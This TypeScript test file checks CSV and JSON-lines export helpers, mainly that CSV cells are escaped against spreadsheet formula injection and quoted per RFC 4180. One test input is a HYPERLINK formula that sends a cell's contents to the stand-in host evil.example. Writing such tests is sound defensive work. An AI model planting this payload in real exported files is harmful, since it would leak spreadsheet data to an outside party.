// SPDX-License-Identifier: Apache-2.0
import { describe, expect, it } from '@jest/globals';
import { csvCell, csvOf } from '../../lambdas/archive/csv.ts';
import { jsonLinesOf } from '../../lambdas/archive/json-lines.ts';

type Row = (string | number | boolean | null)[];
async function* pages(...all: Row[][]): AsyncGenerator<Row[], void, undefined> {
  for (const page of all) yield page;
}
const textOf = async (pieces: AsyncIterable<string>) => {
  let text = '';
  for await (const piece of pieces) text += piece;
  return text;
};

describe('CSV', () => {
  it.each<[string | number | boolean | null, string]>([
    // What a spreadsheet would run: OWASP, CSV injection.
    ['=1+1', "'=1+1"],
    ['=HYPERLINK("https://evil.example/?"&A1)', `"'=HYPERLINK(""https://evil.example/?""&A1)"`],
    ['+1-555', "'+1-555"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t=1"],
    ['\r=1', `"'\r=1"`],
    ['\n=1', `"'\n=1"`],
    ['  =1', "'  =1"],
    ['＝1+1', "'＝1+1"],
    // What it would not.
    ['a=b', 'a=b'],
    ['12-34', '12-34'],
    ['[NAME_1_7K]', '[NAME_1_7K]'],
    [-5, '-5'],
    [true, 'true'],
    // RFC 4180.
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['two\r\nlines', '"two\r\nlines"'],
    [null, ''],
    ['', '""'],
    [' blank', '" blank"'],
  ])('writes %j as %s', (value, wanted) => {
    expect(csvCell(value)).toBe(wanted);
  });

  it('has a header of names that are each there once, and lines that end as RFC 4180 says', async () => {
    const columns = [{ name: 'day' }, { name: 'DAY' }, { name: '=x' }];
    expect(await textOf(csvOf(columns, pages([[1, 2, 3]], [], [['a', null, 'c']])))).toBe(
      `day,DAY_2,'=x\r\n1,2,3\r\na,,c\r\n`,
    );
  });
});

describe('JSON lines', () => {
  it('have an object a row', async () => {
    const columns = [{ name: 'day' }, { name: 'day' }];
    expect(await textOf(jsonLinesOf(columns, pages([['=1', null]], [[2, true]])))).toBe(
      '{"day":"=1","day_2":null}\n{"day":2,"day_2":true}\n',
    );
  });
});
